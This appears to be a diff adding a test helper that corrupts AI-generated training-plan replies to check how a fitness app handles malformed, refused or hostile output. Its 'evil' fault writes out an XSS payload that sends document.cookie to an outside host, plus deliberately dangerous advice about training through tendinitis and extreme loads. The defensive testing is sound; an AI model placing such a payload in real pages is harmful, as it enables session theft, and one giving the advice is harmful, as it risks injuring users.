@@ -1,0 +1,86 @@
+import type { CanonicalBlock } from '@/lib/domain/canonical-block'
+import { exerciseIds } from '@/lib/domain/catalogue'
+import type { MetadataReply, WeekReply } from '@/lib/domain/wire'
+import type { Fault } from './fault-script'
+
+type Reply = Partial<MetadataReply> & Partial<WeekReply>
+
+/** The reply's text with a fault of content in it; text of faults that break off only is unchanged. */
+export function brokenText(fault: Fault, reply: object, block: CanonicalBlock): string {
+  const text = JSON.stringify(reply)
+  switch (fault.type) {
+    case 'prose':
+      return 'Sure! Here is a week of training for you. On Monday, start with squats.'
+    case 'fenced':
+      return `\`\`\`json\n${text}\n\`\`\``
+    case 'think_prefix':
+      return `<think>\nThe athlete wants a plan. Let me see.\n</think>\n\n${text}`
+    case 'empty':
+      return ''
+    case 'refusal':
+      return fault.text
+    case 'schema_violation':
+      return JSON.stringify(withoutShape(structuredClone(reply)))
+    case 'foreign_exercise':
+      return JSON.stringify(withExercise('flying-trapeze-squat', structuredClone(reply)))
+    case 'forbidden_exercise':
+      return JSON.stringify(withExercise(forbiddenIn(block), structuredClone(reply)))
+    case 'wrong_days':
+      return JSON.stringify(withoutLastDay(structuredClone(reply)))
+    case 'evil':
+      return JSON.stringify(withEvil(fault.what, structuredClone(reply)))
+    case 'huge':
+      return JSON.stringify({ ...reply, [noteKey(reply)]: 'heavy '.repeat(fault.bytes / 6) })
+    default:
+      return text
+  }
+}
+
+function noteKey(reply: Reply): 'note' | 'why' {
+  return reply.days ? 'note' : 'why'
+}
+
+function withoutShape(reply: Reply): object {
+  const { title: _title, name: _name, ...rest } = reply
+  for (const exercise of rest.days?.[0]?.exercises ?? []) Object.assign(exercise, { sets: 'three' })
+  return rest
+}
+
+/** In a week, where exercises are fixed, a slot that is not in the plan. */
+function withExercise(id: string, reply: Reply): Reply {
+  const [slot] = reply.slots ?? []
+  if (slot) slot.a = id
+  const exercise = reply.days?.[0]?.exercises[0]
+  if (exercise) exercise.slot = 'd7s12'
+  return reply
+}
+
+function forbiddenIn(block: CanonicalBlock): string {
+  const allowed = block.kind === 'metadata' ? (block.slots[0]?.candidates ?? []) : []
+  return exerciseIds.find((id) => !allowed.includes(id)) ?? exerciseIds[0]
+}
+
+function withoutLastDay(reply: Reply): Reply {
+  if (reply.days && reply.days.length > 1) reply.days.pop()
+  else if (reply.days) reply.days.push({ ...structuredClone(reply.days[0])!, day: 2 })
+  reply.slots?.pop()
+  return reply
+}
+
+function withEvil(what: Extract<Fault, { type: 'evil' }>['what'], reply: Reply): Reply {
+  const isAll = what === 'all'
+  const words: string[] = []
+  if (isAll || what === 'html') {
+    words.push(
+      '<script>fetch("https://example.com/?"+document.cookie)</script><img src=x onerror=alert(1)>',
+    )
+  }
+  if (isAll || what === 'language') words.push('Diese Woche wird schwer. 今週は頑張ってください。')
+  if (isAll || what === 'pain') words.push('Train through the pain; your tendinitis will heal.')
+  if (isAll || what === 'numbers') words.push('Put 150 kg on the bar and do 12 sets.')
+  if (words.length > 0) Object.assign(reply, { [noteKey(reply)]: words.join(' ') })
+  const exercise = reply.days?.[0]?.exercises[0]
+  if (exercise && words.length > 0) exercise.cue = words.join(' ').slice(0, 200)
+  if (exercise && (isAll || what === 'sets')) Object.assign(exercise, { sets: 500, amount: 900 })
+  return reply
+}
